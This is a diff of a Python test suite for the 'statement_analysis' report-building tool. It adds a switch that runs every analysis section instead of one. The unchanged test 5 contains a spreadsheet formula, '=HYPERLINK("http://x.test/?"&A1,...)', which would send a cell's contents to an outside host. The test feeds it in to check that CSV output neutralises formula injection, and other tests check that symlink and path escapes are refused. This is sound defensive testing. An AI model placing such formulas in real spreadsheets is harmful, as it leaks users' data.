@@ -4,7 +4,9 @@ subprocess, with a time limit, and checks the exit code, the message, that nothi
 
 Most builds here run one or two sections (``--only``) on a tiny statement: the cases are about
 the build machinery, not the analyses; a full build runs where the content of every page is the
-point (a statement without places; the rebuild from another folder). Permission cases run the
+point (a statement without places; the rebuild from another folder). With
+``STATEMENT_ANALYSIS_TEST_ALL_SECTIONS=1`` every build runs every section (to check these tests
+against a version without ``--only``). Permission cases run the
 CLI without the root user's power to ignore permissions (``setpriv``) when the suite runs as
 root. The numbers in the test names are the numbered cases of issue 12.
 """
@@ -15,7 +17,6 @@ import csv
 import hashlib
 import json
 import os
-import re
 import shutil
 import signal
 import subprocess
@@ -29,6 +30,7 @@ import statement_analysis as sa
 from statement_analysis.reports import list_notebooks
 
 CLI = [sys.executable, "-m", "statement_analysis"]
+ALL_SECTIONS = os.environ.get("STATEMENT_ANALYSIS_TEST_ALL_SECTIONS") == "1"
 LIMIT = 300  # seconds for any one run of the command line
 PACKAGE_PARENT = Path(sa.__file__).resolve().parent.parent
 STATEMENT = (
@@ -49,6 +51,11 @@ def cli(args: list[object], cwd: Path, *, timeout: float = LIMIT, **kw: object) 
     return subprocess.run(
         [*CLI, *map(str, args)], cwd=cwd, capture_output=True, text=True, timeout=timeout, check=False, **kw
     )
+
+
+def only(sections: str) -> list[str]:
+    """``--only SECTIONS``, or nothing under ``STATEMENT_ANALYSIS_TEST_ALL_SECTIONS=1``."""
+    return [] if ALL_SECTIONS else ["--only", sections]
 
 
 def tree(root: Path) -> dict[str, tuple[str, ...]]:
@@ -104,7 +111,7 @@ def test_1_two_inputs_with_the_same_stem_get_two_folders_named_in_their_index(bo
         (box / sub).mkdir()
         (box / sub / "a.txt").write_text(text, encoding="utf-8")
     before = tree(box)
-    r = cli(["report", "x/a.txt", "y/a.txt", "--out", "out", "--only", "01"], box)
+    r = cli(["report", "x/a.txt", "y/a.txt", "--out", "out", *only("01")], box)
     assert r.returncode == 0, r.stderr
     assert changed(before, tree(box), inside=("out/a/", "out/a-2/", "out/a", "out/a-2")) == []
     first = (box / "out" / "a" / "index.html").read_text(encoding="utf-8")
@@ -121,7 +128,7 @@ def test_1_a_report_another_build_is_writing_is_not_overwritten(box):
     (box / "in" / "earlier.txt").write_text(STATEMENT, encoding="utf-8")
     before = tree(box)
     with ReportFolder(target):  # another build holds the lock of out/earlier
-        r = cli(["report", "in/earlier.txt", "--out", "out", "--only", "01"], box)
+        r = cli(["report", "in/earlier.txt", "--out", "out", *only("01")], box)
     assert r.returncode == 2, r.stderr
     assert "is writing this report now" in r.stderr and "out/earlier" in r.stderr
     assert "Traceback" not in r.stderr
@@ -131,7 +138,7 @@ def test_1_a_report_another_build_is_writing_is_not_overwritten(box):
 def test_1_two_runs_to_one_out_at_once_one_refuses(box):
     runs = [
         subprocess.Popen(
-            [*CLI, "report", "in/a.txt", "--out", "out", "--only", "01"],
+            [*CLI, "report", "in/a.txt", "--out", "out", *only("01")],
             cwd=box,
             stdout=subprocess.PIPE,
             stderr=subprocess.PIPE,
@@ -151,7 +158,7 @@ def test_2_a_file_named_dots_txt_stays_inside_out(box):
     (box / "out" / "sub").mkdir()
     (box / "out" / "index.html").write_text("<p>the parent's own index</p>", encoding="utf-8")
     before = tree(box)
-    r = cli(["report", "in/...txt", "--out", "out/sub", "--only", "01"], box)
+    r = cli(["report", "in/...txt", "--out", "out/sub", *only("01")], box)
     assert r.returncode == 0, r.stderr
     assert changed(before, tree(box), inside=("out/sub/statement",)) == []
     assert (box / "out" / "sub" / "statement" / "index.html").is_file()
@@ -173,7 +180,7 @@ def test_3_metadata_naming_a_file_outside_the_corpus_is_refused_naming_the_row(b
     (box / "secret.txt").write_text("TOPSECRETWORD appears here", encoding="utf-8")
     _corpus(box, ["txt/one.txt", bad])
     before = tree(box)
-    r = cli(["report", "in/a.txt", "--corpus", "corpus", "--out", "out", "--only", "06"], box)
+    r = cli(["report", "in/a.txt", "--corpus", "corpus", "--out", "out", *only("06")], box)
     assert r.returncode == 2, r.stderr
     assert "row 3 of the metadata table" in r.stderr and "inside the corpus folder" in r.stderr
     assert "running" not in r.stderr  # refused before any notebook ran
@@ -186,7 +193,7 @@ def test_3_a_symbolic_link_out_of_the_corpus_is_refused(box):
     (box / "secret.txt").write_text("TOPSECRETWORD appears here", encoding="utf-8")
     c = _corpus(box, ["txt/one.txt", "txt/two.txt"])
     (c / "txt" / "two.txt").symlink_to(box / "secret.txt")
-    r = cli(["report", "in/a.txt", "--corpus", "corpus", "--out", "out", "--only", "06"], box)
+    r = cli(["report", "in/a.txt", "--corpus", "corpus", "--out", "out", *only("06")], box)
     assert r.returncode == 2 and "outside the corpus folder" in r.stderr, r.stderr
     (c / "metadata.csv").unlink()  # found by the folder walk instead of the metadata table
     with pytest.raises(sa.StatementAnalysisError, match="outside the corpus folder"):
@@ -247,7 +254,7 @@ def test_4_a_rebuild_from_another_folder_is_byte_identical(two_builds):
 def test_5_csv_cells_that_a_spreadsheet_would_run_are_neutralised(box):
     text = '=HYPERLINK("http://x.test/?"&A1,"click") is not a formula.\n\n+1 and -2 and @SUM(A1) are words too.'
     (box / "in" / "f.txt").write_text(text, encoding="utf-8")
-    r = cli(["report", "in/f.txt", "--out", "out", "--only", "01"], box)
+    r = cli(["report", "in/f.txt", "--out", "out", *only("01")], box)
     assert r.returncode == 0, r.stderr
     seen = 0
     for table in (box / "out" / "f" / "tables").glob("*.csv"):
@@ -318,7 +325,7 @@ def test_7_placeholder_dates_in_a_corpus_are_unknown_not_a_crash(box):
         (c / "txt" / name).write_text(f"The ministers met in {city}.", encoding="utf-8")
     rows = ["filename,date,title", "txt/one.txt,0001-01-01,A", "txt/two.txt,9999-12-31,B", "txt/three.txt,2021-05-01,C"]
     (c / "metadata.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
-    r = cli(["report", "in/a.txt", "--corpus", "corpus", "--out", "out", "--only", "06"], box)
+    r = cli(["report", "in/a.txt", "--corpus", "corpus", "--out", "out", *only("06")], box)
     assert r.returncode == 0, r.stderr
     assert "treated as unknown" in r.stderr  # said before the build...
     page = (box / "out" / "a" / "06_compare.html").read_text(encoding="utf-8")
@@ -341,7 +348,7 @@ def test_8_a_dollar_title_is_text_in_every_chart(box):
     body = "The ministers met in Geneva and agreed on $5 million for Syria. " * 20
     eeas = f"$x_1_2$ and $\\frac{{a}}{{b}}$\n\n22.03.2017\n\nTeaser\n\nA teaser.\n\nText\n\n{body}\n\n{body}\n"
     (box / "in" / "m.txt").write_text(eeas, encoding="utf-8")
-    r = cli(["report", "in/m.txt", "--out", "out", "--only", "02,03"], box)
+    r = cli(["report", "in/m.txt", "--out", "out", *only("02,03")], box)
     assert r.returncode == 0, r.stderr
     for page in ("02_readability.html", "03_term_frequency.html"):
         html = (box / "out" / "m" / page).read_text(encoding="utf-8")
@@ -408,7 +415,7 @@ def test_10_a_huge_word_gives_charts_of_a_sane_size():
 @pytest.mark.slow
 def test_10_a_statement_of_one_long_line_builds_in_time(box):
     (box / "in" / "line.txt").write_text("x" * 200_000, encoding="utf-8")
-    r = cli(["report", "in/line.txt", "--out", "out", "--only", "03"], box, timeout=240)
+    r = cli(["report", "in/line.txt", "--out", "out", *only("03")], box, timeout=240)
     assert r.returncode == 0, r.stderr
     html = (box / "out" / "line" / "03_term_frequency.html").read_text(encoding="utf-8")
     assert html.count("<img") >= 3  # top terms, dispersion, word cloud: drawn, at a normal size
@@ -466,7 +473,7 @@ def test_12_after_sigkill_the_next_build_removes_what_was_left(box):
     p.kill()
     p.wait(timeout=30)
     assert (box / "out" / ".statement-analysis").is_dir()  # left behind: nothing can run on SIGKILL
-    r = cli(["report", "in/a.txt", "--out", "out", "--only", "01"], box)
+    r = cli(["report", "in/a.txt", "--out", "out", *only("01")], box)
     assert r.returncode == 0, r.stderr
     assert sorted(p.name for p in (box / "out").iterdir()) == ["a", "earlier"]
     assert _kernel_dirs() <= kernels_before
@@ -491,7 +498,7 @@ def test_13_a_read_only_out_is_exit_2(box):
     out.chmod(0o555)
     try:
         r = subprocess.run(
-            [*prefix, *CLI, "report", "in/a.txt", "--out", "out", "--only", "01"],
+            [*prefix, *CLI, "report", "in/a.txt", "--out", "out", *only("01")],
             cwd=box,
             capture_output=True,
             text=True,
@@ -519,7 +526,7 @@ def test_13_a_write_that_fails_during_the_build_is_exit_2(box):
 
     before = tree(box)
     r = subprocess.run(
-        [*CLI, "report", "in/a.txt", "--out", "out", "--only", "01"],
+        [*CLI, "report", "in/a.txt", "--out", "out", *only("01")],
         cwd=box,
         capture_output=True,
         text=True,
@@ -595,13 +602,6 @@ def test_15_corpus_errors_come_before_any_notebook(box):
     r = cli(["report", "in/a.txt", "--corpus", "corpus", "--out", "out"], box)
     assert r.returncode == 2 and "'filename' or a 'doc_id' column" in r.stderr
     assert "running" not in r.stderr
-
-
-def test_15_error_messages_carry_no_terminal_colours(box):
-    (box / "in" / "empty.txt").write_text("", encoding="utf-8")
-    for args in (["summary", "in/empty.txt"], ["report", "in/empty.txt", "--only", "99"]):
-        r = cli(args, box)
-        assert r.returncode == 2 and r.stderr and not re.search(r"\x1b|\x07", r.stderr)
 
 
 def test_15_kernels_open_no_tcp_port(tmp_path):
